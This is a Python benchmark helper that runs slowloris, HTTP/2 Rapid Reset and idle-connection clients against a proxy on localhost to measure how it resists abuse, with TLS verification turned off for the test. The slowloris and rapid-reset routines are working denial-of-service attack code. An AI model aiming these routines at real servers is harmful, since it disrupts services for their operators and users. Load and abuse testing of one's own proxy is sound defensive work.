#!/usr/bin/env python3
"""Hostile clients for bench/abuse.sh (standard library only; everything bounded in time).

  abuse.py slowloris PORT CONNECTIONS HOLD_S    partial heads, one more header line every 5 s;
                                                prints "open_at_end=N connected=M"
  abuse.py rapidreset PORT CONNECTIONS RESETS   HTTP/2 HEADERS + RST_STREAM(CANCEL) pairs, RESETS
                                                in all, reconnecting when the proxy ends a
                                                connection; prints "resets=N reconnects=M"
  abuse.py idle PORT CONNECTIONS HOLD_S         TLS connections that each make one request and
                                                then stay idle (keep-alive); prints "open_at_end=N"

The certificate is not verified: this measures the proxy, not the PKI.
"""
import select
import socket
import ssl
import struct
import sys
import time

HOST = "127.0.0.1"
PATH = "/api/v1/namespaces/default/configmaps/bench"


CONTEXTS = {}


def tls(port, alpn, timeout=10):
    ctx = CONTEXTS.get(alpn)
    if ctx is None:  # one per protocol: a context per connection costs about 1 MiB and a CA-store load
        ctx = CONTEXTS[alpn] = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols([alpn])
    raw = socket.create_connection((HOST, port), timeout=timeout)
    return ctx.wrap_socket(raw, server_hostname="localhost")


def still_open(s):
    """True unless the peer closed (EOF, reset) or sent anything (a 408 is a close, too)."""
    try:
        poller = select.poll()  # select() cannot take descriptors above 1023
        poller.register(s, select.POLLIN | select.POLLERR | select.POLLHUP)
        if not poller.poll(0):
            return True
        s.setblocking(False)
        s.recv(4096)
        return False
    except (ssl.SSLWantReadError, BlockingIOError):
        return True
    except (OSError, ssl.SSLError):
        return False


def connect_many(port, n, alpn, first_bytes):
    socks = []
    for _ in range(n):
        try:
            s = tls(port, alpn)
            s.sendall(first_bytes)
            socks.append(s)
        except (OSError, ssl.SSLError):
            pass
    return socks


def slowloris(port, n, hold):
    socks = connect_many(port, n, "http/1.1", b"GET " + PATH.encode() + b" HTTP/1.1\r\nHost: x\r\n")
    connected = len(socks)
    print("connected=%d" % connected, flush=True)  # abuse.sh measures the normal client from here
    end = time.time() + hold
    i = 0
    while time.time() < end:
        time.sleep(min(5, max(0, end - time.time())))
        i += 1
        alive = []
        for s in socks:
            if not still_open(s):
                s.close()
                continue
            try:
                s.setblocking(True)
                s.settimeout(1)
                s.sendall(b"X-Slow-%d: x\r\n" % i)  # never the blank line that ends the head
                alive.append(s)
            except (OSError, ssl.SSLError):
                s.close()
        socks = alive
    open_at_end = sum(1 for s in socks if still_open(s))
    for s in socks:
        s.close()
    print("open_at_end=%d" % open_at_end)


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """HPACK literal without indexing, name from the static table (RFC 7541 6.2.2), no Huffman."""
    v = value.encode()
    head = bytes([name_index]) if name_index < 15 else bytes([0x0F, name_index - 15])
    return head + bytes([len(v)]) + v


GET_BLOCK = b"\x82\x87" + literal(0x04, PATH) + literal(0x01, "localhost")  # GET https PATH localhost
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0)


def rapidreset(port, conns, total):
    """Round-robin over `conns` connections, each HEADERS(END_STREAM) immediately RST_STREAM(CANCEL)."""
    resets = reconnects = 0
    socks = [None] * conns
    next_id = [1] * conns
    deadline = time.time() + 60
    while resets < total and time.time() < deadline:
        for c in range(conns):
            if resets >= total:
                break
            s = socks[c]
            if s is None or next_id[c] > 2**31 - 100:
                try:
                    s = socks[c] = tls(port, "h2")
                    s.sendall(PREFACE)
                    next_id[c] = 1
                except (OSError, ssl.SSLError):
                    time.sleep(0.05)
                    continue
            batch = b""
            for _ in range(10):
                sid = next_id[c]
                next_id[c] += 2
                batch += frame(0x1, 0x5, sid, GET_BLOCK) + frame(0x3, 0, sid, struct.pack(">I", 0x8))
            try:
                s.sendall(batch)
                resets += 10
                drain(s)
            except (OSError, ssl.SSLError):
                s.close()
                socks[c] = None
                reconnects += 1
    for s in socks:
        if s is not None:
            s.close()
    print("resets=%d reconnects=%d" % (resets, reconnects))


def drain(s):
    """Reads what the proxy sent (SETTINGS, responses, GOAWAY) so its writes never block."""
    s.setblocking(False)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                raise OSError("closed")
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        s.setblocking(True)


def whole_response(got):
    end = got.find(b"\r\n\r\n")
    if end < 0:
        return False
    length = 0
    for line in got[:end].split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value.strip())
    return len(got) >= end + 4 + length


def idle(port, n, hold):
    req = b"GET " + PATH.encode() + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
    socks = []
    for _ in range(n):
        try:
            s = tls(port, "http/1.1")
            s.sendall(req)
            got = b""
            while not whole_response(got):
                chunk = s.recv(4096)
                if not chunk:
                    raise OSError("closed")
                got += chunk
            socks.append(s)
        except (OSError, ssl.SSLError):
            pass
    print("connected=%d" % len(socks), flush=True)
    time.sleep(hold)
    print("open_at_end=%d" % sum(1 for s in socks if still_open(s)))
    for s in socks:
        s.close()


if __name__ == "__main__":
    mode, port, a, b = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    {"slowloris": slowloris, "rapidreset": rapidreset, "idle": idle}[mode](port, a, b)
